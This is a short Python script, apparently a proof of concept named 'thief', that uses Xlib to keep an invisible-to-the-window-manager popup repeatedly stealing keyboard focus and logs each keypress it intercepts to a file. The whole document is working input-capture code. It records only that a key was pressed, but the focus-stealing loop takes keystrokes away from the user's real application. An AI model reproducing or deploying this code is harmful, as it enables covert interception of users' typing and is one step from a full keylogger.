"""A popup that takes the focus again and again, and writes down each key that it gets.

``python thief.py LOG``
"""

from __future__ import annotations

import sys
import time
from pathlib import Path

from Xlib import X, display


def main() -> None:
    connection = display.Display()
    root = connection.screen().root
    popup = root.create_window(
        5, 5, 60, 40, 0, X.CopyFromParent, X.InputOutput, override_redirect=True, event_mask=X.KeyPressMask
    )
    log = Path(sys.argv[1])
    log.touch()
    while True:
        popup.map()
        popup.set_input_focus(X.RevertToPointerRoot, X.CurrentTime)
        connection.sync()
        time.sleep(0.03)
        for _ in range(connection.pending_events()):
            if connection.next_event().type == X.KeyPress:
                with log.open("a") as file:
                    file.write("key\n")
        popup.unmap()
        connection.sync()
        time.sleep(0.02)


if __name__ == "__main__":
    main()
